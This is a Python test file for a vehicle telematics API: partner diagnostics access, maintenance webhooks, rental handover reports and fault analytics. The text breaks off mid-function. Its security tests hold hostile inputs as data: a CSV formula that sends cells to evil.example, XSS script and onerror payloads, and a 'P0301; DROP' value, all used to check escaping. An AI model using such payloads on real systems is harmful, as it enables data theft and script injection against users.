"""The owner services around the lifecycle (issue 16 items 4 and 5), through the API on
SQLite and PostgreSQL: a workshop's access while the car is in service, a dealer's with the
owner's consent (diagnostics, never a position), service plans and the maintenance check
with its signed webhook to the dealer (a real local HTTP server). The pure rules are
tested first."""

from __future__ import annotations

import csv
import io
import random
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import orjson
import pytest
from fastapi.testclient import TestClient
from httpx2 import Response

from gateway.api import ApiSettings, create_app
from gateway.core.fault_analytics import fault_groups
from gateway.core.maintenance import MONTH_MS, ServicePlan, due_items, plan_for
from gateway.core.notify import verify_signature
from gateway.fleet.maintenance import CheckResult, MaintenanceThread
from gateway.notify.settings import NotifySettings
from gateway.store import IngestBatch, Tenure, open_store
from schemas import Event, EventType, Sample
from tests.support.api import auth_settings_for_tests, bearer
from tests.support.notify import Receiver
from tests.support.waiting import wait_until

VIN = "WLYFE000000000021"
PASSWORD = "services-password-1"
LAT = "Vehicle.CurrentLocation.Latitude"
LON = "Vehicle.CurrentLocation.Longitude"
ODO = "Vehicle.TraveledDistance"
DTC = "Vehicle.Diagnostics.DTCList"
SPEED = "Vehicle.Speed"
DAY_MS = 86_400_000

# --- the pure rules ------------------------------------------------------------------------

PLAN = ServicePlan("city car", "WLYFE", 15_000, 12, ("P03*", "U0100"))


@pytest.mark.parametrize(
    ("odometer_m", "age_ms", "codes", "keys"),
    [
        (None, None, [], []),  # nothing known: nothing due
        (14_999_999, 0, [], []),
        (15_000_000, 0, [], ["distance:1"]),  # at the interval, not a metre later
        (47_000_000, 0, [], ["distance:3"]),  # the newest interval only
        (0, 12 * MONTH_MS - 1, [], []),
        (0, 12 * MONTH_MS, [], ["time:1"]),
        (0, 25 * MONTH_MS, [], ["time:2"]),
        (0, 0, ["P0301", "P0301", "B1000"], ["fault:P0301"]),  # prefix match, once
        (0, 0, ["U0100", "U01001"], ["fault:U0100"]),  # exact match is exact
        (30_000_000, 12 * MONTH_MS, ["P0342"], ["distance:2", "time:1", "fault:P0342"]),
    ],
)
def test_what_is_due(
    odometer_m: int | None, age_ms: int | None, codes: list[str], keys: list[str]
) -> None:
    since = None if age_ms is None else 1_000_000
    now = 1_000_000 + (age_ms or 0)
    found = due_items(PLAN, odometer_m=odometer_m, now_ms=now, since_ms=since, fault_codes=codes)
    assert [i.key for i in found] == keys


def test_the_longest_prefix_is_the_models_plan() -> None:
    default = ServicePlan("default", "", 20_000, None, ())
    model = ServicePlan("model", "WLYFE0", 10_000, None, ())
    assert plan_for("WLYFE000000000001", [default, PLAN, model]) is model
    assert plan_for("WLYFX000000000001", [default, PLAN, model]) is default
    assert plan_for("WLYFX000000000001", [PLAN, model]) is None


# --- through the API -------------------------------------------------------------------------


@dataclass
class Clock:
    now: float = field(default_factory=lambda: float(int(time.time())))

    def __call__(self) -> float:
        return self.now


@dataclass
class Api:
    client: TestClient
    clock: Clock
    admin: dict[str, str]
    db_path: Path
    seq: int = 0

    def as_(self, headers: dict[str, str], method: str, url: str, **kw: Any) -> Response:
        return self.client.request(method, url, headers=headers, **kw)

    def login(self, email: str) -> dict[str, str]:
        r = self.client.post(
            "/v1/auth/token",
            data={"grant_type": "password", "username": email, "password": PASSWORD},
        )
        assert r.status_code == 200, r.text
        return {"Authorization": f"Bearer {r.json()['access_token']}"}

    def owner(self, email: str) -> tuple[int, dict[str, str]]:
        r = self.client.post(
            "/v1/auth/register", json={"email": email, "password": PASSWORD, "name": email}
        )
        assert r.status_code == 202, r.text
        headers = self.login(email)
        return self.as_(headers, "GET", "/v1/me").json()["account"]["id"], headers

    def organization(
        self, name: str, manager: str, *, partner: bool = True
    ) -> tuple[int, dict[str, str]]:
        r = self.as_(
            self.admin, "POST", "/v1/accounts", json={"kind": "organization", "name": name}
        )
        assert r.status_code == 201, r.text
        account: int = r.json()["id"]
        body = {"email": manager, "name": manager, "role": "fleet_manager", "password": PASSWORD}
        r = self.as_(self.admin, "POST", "/v1/users", json={**body, "account_id": account})
        assert r.status_code == 201, r.text
        if partner:
            r = self.as_(
                self.admin,
                "POST",
                "/v1/service-partners",
                json={"account_id": account, "name": name},
            )
            assert r.status_code == 201, r.text
        return account, self.login(manager)

    def now_ms(self) -> int:
        return int(self.clock.now * 1000)

    def report(self, tenure: int, **signals: Any) -> None:
        now = self.now_ms()
        self.seq += 1
        store = open_store(self.db_path)
        try:
            store.commit(
                IngestBatch(
                    received_at=now,
                    samples=[Sample(VIN, self.seq, now, signals)],
                    tenures={VIN: Tenure(tenure, now - 1000)},
                )
            )
        finally:
            store.close()

    def audit(self, action: str) -> list[dict[str, Any]]:
        r = self.as_(self.admin, "GET", "/v1/audit", params={"action": action, "limit": 100})
        assert r.status_code == 200, r.text
        return [e for e in r.json()["items"] if e["action"] == action]

    def check(self) -> int:
        r = self.as_(self.admin, "POST", "/v1/maintenance/check")
        assert r.status_code == 200, r.text
        notices: int = r.json()["notices"]
        return notices


@pytest.fixture
def api(tmp_path: Path, state_db_url: str) -> Iterator[Api]:
    clock = Clock()
    settings = ApiSettings(
        tmp_path / "telemetry.db",
        state_db_url=state_db_url,
        auth=auth_settings_for_tests(clock=clock),
        notify=NotifySettings(
            webhook_allow_private_targets=True,  # the receiver is on 127.0.0.1
            webhook_poll_s=0.05,
        ),
    )
    with TestClient(create_app(settings)) as client:
        yield Api(client, clock, bearer(ttl_s=2 * 365 * 86_400), tmp_path / "telemetry.db")


def error(r: Response, status: int, code: str) -> None:
    assert r.status_code == status, r.text
    assert r.json()["error"]["code"] == code, r.text


def diag(api: Api, headers: dict[str, str]) -> Response:
    return api.as_(headers, "GET", f"/v1/vehicles/{VIN}/diagnostics")


def test_a_workshop_reads_diagnostics_only_while_the_car_is_in_service(api: Api) -> None:
    owner_account, owner = api.owner("owner@example.com")
    workshop, garage = api.organization("Garage Nord", "garage@example.com")
    _, other = api.organization("Other Garage", "other@example.com")
    assert api.as_(owner, "POST", "/v1/vehicles", json={"vin": VIN}).status_code == 201
    api.report(1, **{LAT: 48.1, LON: 11.5, SPEED: 0.0, ODO: 12_345_000, DTC: ["P0301"]})

    # before the service: nothing, as for a car that does not exist
    error(diag(api, garage), 404, "vehicle_not_found")
    until = api.now_ms() + 3600_000
    r = api.as_(
        owner,
        "POST",
        f"/v1/vehicles/{VIN}/service",
        json={"workshop_account_id": workshop, "until": until},
    )
    assert r.status_code == 200, r.text

    # in service: the workshop reads diagnostics, never a position; every read is audited
    seen = diag(api, garage)
    assert seen.status_code == 200, seen.text
    body = seen.json()
    assert (body["via"], body["until"]) == ("workshop", until)
    assert {n: s["value"] for n, s in body["signals"].items()} == {
        SPEED: 0.0,
        ODO: 12_345_000,
        DTC: ["P0301"],
    }
    reads = api.audit("vehicle_diagnostics_read")
    assert [(e["account_id"], e["detail"]["via"]) for e in reads] == [(owner_account, "workshop")]
    # and nothing else of the car: no state, no history, no positions, no commands
    for url in (
        f"/v1/vehicles/{VIN}",
        f"/v1/vehicles/{VIN}/history?signals={LAT}&start=0",
        f"/v1/vehicles/{VIN}/lifecycle",
    ):
        error(api.as_(garage, "GET", url), 404, "vehicle_not_found")
    listed = api.as_(garage, "GET", "/v1/service-partners/vehicles").json()["items"]
    assert listed == [{"vin": VIN, "via": "workshop", "until": until, "until_iso": listed[0][
        "until_iso"]}]  # fmt: skip
    # another partner gets nothing
    error(diag(api, other), 404, "vehicle_not_found")
    # the owner reads it too (as the holder; not audited as a partner read)
    assert diag(api, owner).json()["via"] == "holder"
    assert len(api.audit("vehicle_diagnostics_read")) == 1

    # the access ends at `until`, although nobody ended the service
    api.clock.now += 3601
    later = api.login("garage@example.com")
    error(diag(api, later), 404, "vehicle_not_found")
    assert api.as_(later, "GET", "/v1/service-partners/vehicles").json()["items"] == []
    # and when the owner ends the service
    api.clock.now -= 3601
    assert diag(api, garage).status_code == 200
    assert api.as_(owner, "DELETE", f"/v1/vehicles/{VIN}/service").status_code == 200
    error(diag(api, garage), 404, "vehicle_not_found")


def test_a_dealer_sees_diagnostics_only_with_the_owners_consent(api: Api) -> None:
    _, owner = api.owner("owner@example.com")
    dealer, dealer_user = api.organization("Dealer Süd", "dealer@example.com")
    plain, _ = api.organization("Not A Partner", "plain@example.com", partner=False)
    assert api.as_(owner, "POST", "/v1/vehicles", json={"vin": VIN}).status_code == 201
    api.report(1, **{LAT: 48.1, SPEED: 30.0, DTC: []})
    consent_url = f"/v1/vehicles/{VIN}/dealer"

    error(diag(api, dealer_user), 404, "vehicle_not_found")  # without consent
    error(api.as_(owner, "GET", consent_url), 404, "no_dealer")
    # only a registered partner can be chosen; only the holder chooses
    r = api.as_(owner, "PUT", consent_url, json={"dealer_account_id": plain})
    error(r, 404, "partner_not_found")
    error(
        api.as_(dealer_user, "PUT", consent_url, json={"dealer_account_id": dealer}),
        404,
        "vehicle_not_found",
    )
    r = api.as_(owner, "PUT", consent_url, json={"dealer_account_id": dealer, "duration_days": 30})
    assert r.status_code == 200, r.text
    assert (r.json()["dealer_name"], r.json()["expires_at"]) == (
        "Dealer Süd",
        api.now_ms() + 30 * DAY_MS,
    )
    seen = diag(api, dealer_user)
    assert seen.status_code == 200, seen.text
    assert seen.json()["via"] == "dealer"
    assert set(seen.json()["signals"]) == {SPEED, DTC}  # no position
    error(
        api.as_(dealer_user, "GET", f"/v1/vehicles/{VIN}/history?signals={LAT}&start=0"),
        404,
        "vehicle_not_found",
    )
    # withdrawn: gone at once
    assert api.as_(owner, "DELETE", consent_url).status_code == 200
    error(diag(api, dealer_user), 404, "vehicle_not_found")
    # it expires
    assert (
        api.as_(
            owner, "PUT", consent_url, json={"dealer_account_id": dealer, "duration_days": 1}
        ).status_code
        == 200
    )
    assert diag(api, dealer_user).status_code == 200
    api.clock.now += 86_400
    error(diag(api, api.login("dealer@example.com")), 404, "vehicle_not_found")
    api.clock.now -= 86_400
    # and ends when the car changes hands
    _, buyer = api.owner("buyer@example.com")
    tid = api.as_(
        owner, "POST", f"/v1/vehicles/{VIN}/transfers", json={"to_email": "buyer@example.com"}
    ).json()["id"]
    assert api.as_(buyer, "POST", f"/v1/transfers/{tid}/accept", json={}).status_code == 200
    error(diag(api, dealer_user), 404, "vehicle_not_found")
    error(api.as_(buyer, "GET", consent_url), 404, "no_dealer")
    gave = api.audit("dealer_consent_give")
    assert len(gave) == 2
    assert len(api.audit("dealer_consent_withdraw")) == 1


def test_maintenance_due_fires_once_and_the_dealer_gets_a_signed_webhook(api: Api) -> None:
    owner_account, owner = api.owner("owner@example.com")
    dealer, dealer_user = api.organization("Dealer West", "west@example.com")
    plan = {
        "name": "city car",
        "vin_prefix": "WLYFE",
        "every_km": 15_000,
        "every_months": 12,
        "fault_codes": ["P03*"],
    }
    error(api.as_(owner, "PUT", "/v1/service-plans", json=plan), 403, "forbidden")
    r = api.as_(api.admin, "PUT", "/v1/service-plans", json={**plan, "every_km": None,
                "every_months": None, "fault_codes": []})  # fmt: skip
    error(r, 422, "empty_plan")
    assert api.as_(api.admin, "PUT", "/v1/service-plans", json=plan).status_code == 200
    assert api.as_(owner, "POST", "/v1/vehicles", json={"vin": VIN}).status_code == 201
    assert api.as_(owner, "PUT", f"/v1/vehicles/{VIN}/dealer",
                   json={"dealer_account_id": dealer}).status_code == 200  # fmt: skip

    with Receiver() as receiver:
        hook = api.as_(
            dealer_user,
            "POST",
            "/v1/webhooks",
            json={"url": receiver.url, "events": ["maintenance.due"]},
        )
        assert hook.status_code == 201, hook.text
        secret = hook.json()["secret"]
        # one metre short of the interval: nothing
        api.report(1, **{ODO: 14_999_999, DTC: []})
        assert api.check() == 0
        assert diag(api, owner).json()["maintenance"]["due"] == []
        # at 15,000 km: due, notified once
        api.report(1, **{ODO: 15_000_000, DTC: []})
        assert api.check() == 1
        assert api.check() == 0
        wait_until(lambda: len(receiver.requests) >= 1, what="the dealer's delivery")
        headers, body = receiver.requests[0]
        assert verify_signature(
            headers["telematics-signature"], body, secret, now_s=int(time.time())
        )
        event = orjson.loads(body)
        assert event["type"] == "maintenance.due"
        assert event["data"]["vin"] == VIN
        assert [d["key"] for d in event["data"]["due"]] == ["distance:1"]
        # a fault code that needs a workshop
        api.report(1, **{ODO: 15_100_000, DTC: ["P0301", "B0001"]})
        assert api.check() == 1
        wait_until(lambda: len(receiver.requests) >= 2, what="the second delivery")
        assert [d["key"] for d in orjson.loads(receiver.requests[1][1])["data"]["due"]] == [
            "fault:P0301"
        ]
    maintenance = diag(api, owner).json()["maintenance"]
    assert maintenance["plan"]["vin_prefix"] == "WLYFE"
    assert [d["key"] for d in maintenance["due"]] == ["distance:1", "fault:P0301"]
    assert [n["key"] for n in maintenance["notices"]] == ["distance:1", "fault:P0301"]
    # a finished service marks them done
    workshop, _ = api.organization("Workshop", "ws@example.com")
    r = api.as_(owner, "POST", f"/v1/vehicles/{VIN}/service",
                json={"workshop_account_id": workshop, "until": api.now_ms() + 60_000})  # fmt: skip
    assert r.status_code == 200, r.text
    assert api.as_(owner, "DELETE", f"/v1/vehicles/{VIN}/service").status_code == 200
    maintenance = diag(api, owner).json()["maintenance"]
    assert maintenance["due"] == []
    assert all(n["done_at"] is not None for n in maintenance["notices"])
    # a year on: the time interval
    api.clock.now += 12 * MONTH_MS // 1000
    assert api.check() == 1
    owner = api.login("owner@example.com")
    assert [d["key"] for d in diag(api, owner).json()["maintenance"]["due"]] == ["time:1"]
    # the owner's account got each notice as an event too (its stream and webhooks)
    from gateway.statedb.events import EventLog

    log = EventLog(api.client.app.state.state_db)  # type: ignore[attr-defined]
    mine = [e for e in log.after(0) if e.type == "maintenance.due"]
    assert sorted((e.account_id, e.data["due"][0]["key"]) for e in mine) == sorted(
        [
            (owner_account, "distance:1"),
            (dealer, "distance:1"),
            (owner_account, "fault:P0301"),
            (dealer, "fault:P0301"),
            (owner_account, "time:1"),
            (dealer, "time:1"),
        ]
    )


def test_service_partner_routes_are_for_their_callers(api: Api) -> None:
    _, owner = api.owner("owner@example.com")
    org, manager = api.organization("Fleet", "fleet@example.com", partner=False)
    # only administrators register partners, and only organizations can be partners
    r = api.as_(manager, "POST", "/v1/service-partners", json={"account_id": org, "name": "x"})
    error(r, 403, "forbidden")
    owner_account = api.as_(owner, "GET", "/v1/me").json()["account"]["id"]
    r = api.as_(
        api.admin, "POST", "/v1/service-partners", json={"account_id": owner_account, "name": "x"}
    )
    error(r, 404, "account_not_found")
    # registering a partner again does not rename it (security review 3): the same name
    # answers the partner, another name 409
    body = {"account_id": org, "name": "Fleet Service"}
    first = api.as_(api.admin, "POST", "/v1/service-partners", json=body)
    assert first.status_code == 201, first.text
    again = api.as_(api.admin, "POST", "/v1/service-partners", json=body)
    assert (again.status_code, again.json()) == (200, first.json())
    body = {"account_id": org, "name": "Someone Else"}
    error(api.as_(api.admin, "POST", "/v1/service-partners", json=body), 409, "partner_exists")
    listed = api.as_(owner, "GET", "/v1/service-partners").json()["items"]
    assert [p["name"] for p in listed] == ["Fleet Service"]
    assert len(api.audit("service_partner_register")) == 1
    # everyone sees the list, no one but a partner's users sees vehicles in it
    assert api.as_(owner, "GET", "/v1/service-partners").json()["next"] is None
    assert api.as_(owner, "GET", "/v1/service-partners/vehicles").json()["items"] == []
    error(api.as_(owner, "GET", "/v1/service-plans"), 403, "forbidden")
    error(api.as_(owner, "POST", "/v1/maintenance/check"), 403, "forbidden")
    # a plan's codes and prefix are checked
    bad = {"name": "x", "vin_prefix": "wlyfe", "every_km": 1000}
    assert api.as_(api.admin, "PUT", "/v1/service-plans", json=bad).status_code == 422
    bad = {"name": "x", "vin_prefix": "", "fault_codes": ["P0301; DROP"]}
    assert api.as_(api.admin, "PUT", "/v1/service-plans", json=bad).status_code == 422


# --- the rental handover report --------------------------------------------------------------

SOC = "Vehicle.Powertrain.TractionBattery.StateOfCharge.Current"
FUEL = "Vehicle.Powertrain.FuelSystem.RelativeLevel"


def test_a_handover_reports_the_telemetry_at_check_out_and_check_in(api: Api) -> None:
    _, owner = api.owner("rental@example.com")
    api.owner("stranger@example.com")
    assert api.as_(owner, "POST", "/v1/vehicles", json={"vin": VIN}).status_code == 201
    body = {"email": "renter@example.com", "name": "Renter", "role": "driver", "password": PASSWORD}
    r = api.as_(owner, "POST", "/v1/users", json=body)
    assert r.status_code == 201, r.text
    renter_id = r.json()["id"]
    t0 = api.now_ms()
    # two days before: the last fuel figure (a quiet one, found further back)
    api.clock.now -= 2 * 86_400
    api.report(1, **{FUEL: 40.0, ODO: 1_000_000})
    api.clock.now += 2 * 86_400
    # before the rental: two samples, the later one is the state at check-out
    api.report(1, **{ODO: 9_000_000, SOC: 90.0, LAT: 1.0, LON: 1.0, DTC: ["B1000"]})
    api.clock.now += 600
    api.report(1, **{ODO: 10_000_000, SOC: 80.0, LAT: 48.1, LON: 11.5, DTC: []})
    api.clock.now += 60
    grant = api.as_(owner, "POST", f"/v1/vehicles/{VIN}/grants",
                    json={"user_id": renter_id, "services": ["read"]})  # fmt: skip
    assert grant.status_code == 201, grant.text
    grant_id = grant.json()["id"]
    check_out = api.now_ms()
    # during: the car is driven; only some signals change in the last sample
    api.clock.now += 1800
    api.report(1, **{ODO: 40_000_000, SOC: 60.0, LAT: 52.5, LON: 13.4, DTC: ["P0301"]})
    api.clock.now += 1800
    api.report(1, **{ODO: 60_000_000, SOC: 55.0})
    renter = api.login("renter@example.com")
    url = f"/v1/vehicles/{VIN}/grants/{grant_id}/handover"
    running = api.as_(renter, "GET", url)
    assert running.status_code == 200, running.text
    assert running.json()["ongoing"] is True
    api.clock.now += 60
    owner = api.login("rental@example.com")  # (an hour on: a fresh token)
    assert api.as_(owner, "DELETE", f"/v1/vehicles/{VIN}/grants/{grant_id}").status_code == 200
    check_in = api.now_ms()
    api.clock.now += 600
    api.report(1, **{ODO: 99_000_000, SOC: 1.0})  # after the return: not in the report

    report = api.as_(owner, "GET", url)
    assert report.status_code == 200, report.text
    body = report.json()
    assert (body["ongoing"], body["user_id"]) == (False, renter_id)
    out, back = body["check_out"], body["check_in"]
    assert (out["at"], back["at"]) == (check_out, check_in)
    assert [out[k] for k in ("odometer_m", "charge_pct", "latitude", "longitude")] == [
        10_000_000,
        80.0,
        48.1,
        11.5,
    ]
    assert out["fault_codes"] == []
    assert [back[k] for k in ("odometer_m", "charge_pct", "latitude", "longitude")] == [
        60_000_000,
        55.0,
        52.5,
        13.4,
    ]
    assert back["fault_codes"] == ["P0301"]
    assert (out["fuel_pct"], back["fuel_pct"]) == (40.0, 40.0)  # from two days before
    assert body["changes"] == {
        "distance_m": 50_000_000,
        "charge_pct": -25.0,
        "fuel_pct": 0.0,
        "new_fault_codes": ["P0301"],
        "alerts": [],
    }
    assert back["as_of"] == check_in - 60_000  # the last sample before the return
    # the renter reads their own rental's report, as CSV too; nobody else does
    lines = api.as_(renter, "GET", url, params={"format": "csv"}).text.splitlines()
    assert lines[0].startswith("record,at,at_iso,odometer_m,charge_pct")
    assert lines[1].startswith(f"check_out,{check_out},")
    assert ",10000000.0,80.0,40.0,,48.1,11.5," in lines[1]
    assert lines[2].startswith(f"check_in,{check_in},")
    assert ",P0301,52.5,13.4," in lines[2]
    # the printable page shows the JSON's figures, for the renter and the owner alike
    for who in (renter, owner):
        assert page_fields(html_page(api, who, url)) == json_fields(body)
    for format in ("json", "html"):
        error(api.as_(api.login("stranger@example.com"), "GET", url, params={"format": format}),
              404, "vehicle_not_found")  # fmt: skip
    error(api.as_(owner, "GET", f"/v1/vehicles/{VIN}/grants/999999/handover"), 404,
          "grant_not_found")  # fmt: skip
    assert t0


def test_a_grant_without_read_gives_no_handover_of_the_car(api: Api) -> None:
    """Security review 5: a grant that lists remote services only (``lock``: "send those
    commands and follow the ones they sent, nothing more", README) still gave its holder
    the handover report of the grant, whose check-in is *now* while the grant runs: the
    car's live position, odometer, charge, fuel and fault codes, as often as they asked,
    while every data route answered them 403. The grant's holder now gets the report only
    if the grant lets them read the car (its services list ``read``), also once it ended."""
    _, owner = api.owner("lend-owner@example.com")
    assert api.as_(owner, "POST", "/v1/vehicles", json={"vin": VIN}).status_code == 201
    body = {"email": "locker@example.com", "name": "L", "role": "driver", "password": PASSWORD}
    locker_id = api.as_(owner, "POST", "/v1/users", json=body).json()["id"]
    grant = api.as_(owner, "POST", f"/v1/vehicles/{VIN}/grants",
                    json={"user_id": locker_id, "services": ["lock"]})  # fmt: skip
    assert grant.status_code == 201, grant.text
    api.clock.now += 60
    api.report(1, **{ODO: 1_000_000, LAT: 48.1, LON: 11.5, DTC: ["P0300"]})
    locker = api.login("locker@example.com")
    url = f"/v1/vehicles/{VIN}/grants/{grant.json()['id']}/handover"
    # the data routes: 403, the grant is for remote services only
    error(api.as_(locker, "GET", f"/v1/vehicles/{VIN}"), 403, "forbidden")
    for format in ("json", "csv", "html"):
        r = api.as_(locker, "GET", url, params={"format": format})
        assert "48.1" not in r.text, r.text
        error(r, 403, "forbidden")
    # ended: the report at the return is not theirs to read either
    assert (
        api.as_(owner, "DELETE", f"/v1/vehicles/{VIN}/grants/{grant.json()['id']}").status_code
        == 200
    )
    error(api.as_(locker, "GET", url), 403, "forbidden")
    # the owner reads it, and so does the holder of a grant with read (the rental case)
    assert api.as_(owner, "GET", url).json()["check_in"]["latitude"] == 48.1
    reader = api.as_(owner, "POST", f"/v1/vehicles/{VIN}/grants",
                     json={"user_id": locker_id, "services": ["read", "lock"]})  # fmt: skip
    assert reader.status_code == 201, reader.text
    url = f"/v1/vehicles/{VIN}/grants/{reader.json()['id']}/handover"
    assert api.as_(locker, "GET", url).json()["check_in"]["latitude"] == 48.1


@pytest.mark.parametrize(
    "formula", ['=HYPERLINK("http://evil.example/?"&A1,"P0301")', "+1+1", "-2+3", "@SUM(1)", "\tP0"]
)
def test_a_handover_csv_never_hands_a_spreadsheet_a_formula(api: Api, formula: str) -> None:
    """Security review 4: a unit reports its trouble codes as free text (64 characters
    each), and the handover CSV wrote them into a cell as they came. Anyone holding the
    car's MQTT credential (the renter of a rental car with its unit) put a formula into
    the owner's spreadsheet: ``=HYPERLINK(...)`` sends the sheet's cells away when clicked.
    A text cell that a spreadsheet would read as a formula now starts with ``'``."""
    _, owner = api.owner("formula-owner@example.com")
    assert api.as_(owner, "POST", "/v1/vehicles", json={"vin": VIN}).status_code == 201
    body = {"email": "formula@example.com", "name": "R", "role": "driver", "password": PASSWORD}
    renter_id = api.as_(owner, "POST", "/v1/users", json=body).json()["id"]
    grant = api.as_(owner, "POST", f"/v1/vehicles/{VIN}/grants",
                    json={"user_id": renter_id, "services": ["read"]})  # fmt: skip
    assert grant.status_code == 201, grant.text
    api.clock.now += 60
    api.report(1, **{ODO: 1_000_000, LAT: -33.9, LON: -18.4, DTC: [formula, "P0300"]})
    url = f"/v1/vehicles/{VIN}/grants/{grant.json()['id']}/handover"
    assert api.as_(owner, "GET", url).json()["check_in"]["fault_codes"] == [formula, "P0300"]
    text = api.as_(owner, "GET", url, params={"format": "csv"}).text
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        if cell and not _number(cell):
            assert cell[0] not in "=+-@\t\r", f"a formula cell: {cell!r}"
    check_in = dict(zip(rows[0], rows[2], strict=True))
    assert check_in["fault_codes"] == f"'{formula} P0300"  # kept, read as text
    assert (check_in["latitude"], check_in["longitude"]) == ("-33.9", "-18.4")  # numbers stay


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def html_page(api: Api, who: dict[str, str], url: str) -> str:
    page = api.as_(who, "GET", url, params={"format": "html"})
    assert page.status_code == 200, page.text
    assert page.headers["content-type"].startswith("text/html")
    return page.text


class _Cells(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.cells: dict[str, list[str]] = {}
        self._field: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._field = dict(attrs).get("data-field")
        if self._field is not None:
            self.cells.setdefault(self._field, []).append("")

    def handle_endtag(self, tag: str) -> None:
        self._field = None

    def handle_data(self, data: str) -> None:
        if self._field is not None:
            self.cells[self._field][-1] += data


def page_fields(page: str) -> dict[str, Any]:
    """What the page's cells say, back in the JSON's terms (``data-field`` names the field)."""
    parser = _Cells()
    parser.feed(page)

    def value(text: str) -> Any:
        if text == "\u2014":
            return None
        try:
            return float(text)
        except ValueError:
            return text

    out: dict[str, Any] = {}
    for name, texts in parser.cells.items():
        if name.endswith("fault_codes"):
            out[name] = [] if texts == ["none"] else texts[0].split(", ")
        elif name.startswith("changes.alerts."):
            out[name] = texts
        else:
            (out[name],) = (value(t) for t in texts)
    return out


def json_fields(body: dict[str, Any]) -> dict[str, Any]:
    """The same fields from the JSON report."""
    out: dict[str, Any] = {
        "vin": body["vin"],
        "grant_id": float(body["grant_id"]),
        "user_id": float(body["user_id"]),
        "ongoing": "ongoing: check-in is now" if body["ongoing"] else "returned",
    }
    for side in ("check_out", "check_in"):
        for key in ("at_iso", "as_of_iso", "odometer_m", "charge_pct", "fuel_pct", "fault_codes",
                    "latitude", "longitude"):  # fmt: skip
            out[f"{side}.{key}"] = body[side][key]
    changes = body["changes"]
    for key in ("distance_m", "charge_pct", "fuel_pct", "new_fault_codes"):
        out[f"changes.{key}"] = changes[key]
    for key in ("kind", "severity", "start_at_iso", "end_at_iso"):
        if changes["alerts"]:
            out[f"changes.alerts.{key}"] = [a[key] or "open" for a in changes["alerts"]]
    return out


def test_the_printable_handover_page_escapes_what_the_car_sent(api: Api) -> None:
    """Fault codes come from the unit (attacker-influenced): the page shows them as text,
    runs no script, and its policy allows none; its stylesheet has a print layout."""
    _, owner = api.owner("escape@example.com")
    assert api.as_(owner, "POST", "/v1/vehicles", json={"vin": VIN}).status_code == 201
    body = {"email": "d@example.com", "name": "<b>D</b>", "role": "driver", "password": PASSWORD}
    r = api.as_(owner, "POST", "/v1/users", json=body)
    assert r.status_code == 201, r.text
    hostile = ["<script>alert(1)</script>", '"><img src=x onerror=alert(2)>', "P&0301"]
    api.report(1, **{ODO: 1_000_000, DTC: []})
    api.clock.now += 60
    grant = api.as_(owner, "POST", f"/v1/vehicles/{VIN}/grants",
                    json={"user_id": r.json()["id"], "services": ["read"]})  # fmt: skip
    assert grant.status_code == 201, grant.text
    api.clock.now += 60
    api.report(1, **{ODO: 2_000_000, DTC: hostile})
    api.clock.now += 60
    url = f"/v1/vehicles/{VIN}/grants/{grant.json()['id']}/handover"
    report = api.as_(owner, "GET", url).json()
    assert sorted(report["check_in"]["fault_codes"]) == sorted(hostile)
    page = api.as_(owner, "GET", url, params={"format": "html"})
    assert page.status_code == 200, page.text
    assert "<script" not in page.text
    assert "<img" not in page.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
    assert "&quot;&gt;&lt;img src=x onerror=alert(2)&gt;" in page.text
    assert "P&amp;0301" in page.text
    # parsed back, the cells say exactly what the car sent
    fields = page_fields(page.text)
    assert sorted(fields["check_in.fault_codes"]) == sorted(hostile)
    assert fields == json_fields(report)
    policy = page.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "style-src 'self'" in policy
    assert "script-src" not in policy
    assert "unsafe-inline" not in policy
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["cache-control"] == "no-store"
    assert "<style" not in page.text
    assert " style=" not in page.text
    (href,) = re.findall(r'<link rel="stylesheet" href="([^"]+)">', page.text)
    sheet = api.client.get(href)
    assert sheet.status_code == 200
    assert sheet.headers["content-type"].startswith("text/css")
    assert "@media print" in sheet.text


# --- fault-code analytics --------------------------------------------------------------------


def test_no_group_smaller_than_the_minimum_is_ever_reported() -> None:
    """Random installations: every reported group has at least k distinct vehicles, every
    group with k or more is reported, and the suppressed ones are counted."""
    rng = random.Random(16)
    for _ in range(200):
        k = rng.choice([5, 5, 7, 12])
        occurrences = [
            (
                f"WM{rng.randrange(3)}DL0000{rng.randrange(40):08d}",
                f"P0{rng.randrange(4)}00",
                rng.randrange(10**9),
            )
            for _ in range(rng.randrange(300))
        ]
        result = fault_groups(occurrences, min_group=k)
        truth: dict[tuple[str, str], set[str]] = {}
        for vin, code, _ in occurrences:
            truth.setdefault((vin[:8], code), set()).add(vin)
        assert {(g.model, g.code): g.vehicles for g in result.groups} == {
            key: len(v) for key, v in truth.items() if len(v) >= k
        }
        assert result.suppressed == sum(1 for v in truth.values() if len(v) < k)
    # the floor holds whatever is asked
    few = [(f"WM0DL000{i:09d}", "P0100", 1) for i in range(4)]
    assert fault_groups(few, min_group=1).groups == []
    # occurrences are not vehicles: a fifth occurrence of one of the four is still four
    assert fault_groups([*few, few[0]], min_group=1).groups == []
    fifth = (few[0][0][:-1] + "9", "P0100", 1)
    assert [g.vehicles for g in fault_groups([*few, fifth]).groups] == [5]


def test_fault_code_analytics_are_aggregates_of_big_enough_groups(api: Api) -> None:
    day = 86_400_000
    start = (api.now_ms() // day - 10) * day
    events: list[Event] = []
    tenures: dict[str, Tenure] = {}

    def fault(vin: str, code: str, ts: int) -> None:
        events.append(Event(vin, len(events) + 1, ts, EventType.DTC_SET, code))
        tenures[vin] = Tenure(1, start - day)

    # model WLYFE000: P0301 on 6 vehicles (7 times), P0420 on 4: left out
    for i in range(6):
        fault(f"WLYFE000{i:09d}", "P0301", start + day + 3_600_000 * i)
    fault("WLYFE000000000000", "P0301", start + 2 * day)
    for i in range(4):
        fault(f"WLYFE000{i:09d}", "P0420", start + day)
    # model WABCD000: 5 vehicles with P0301, but one before the range: 4 in it, left out
    for i in range(5):
        fault(f"WABCD000{i:09d}", "P0301", start + day if i else start - day)
    events.append(Event("WLYFE000000000000", 999, start + day, EventType.IGNITION_ON))
    store = open_store(api.db_path)
    try:
        store.commit(IngestBatch(received_at=start, events=events, tenures=tenures))
    finally:
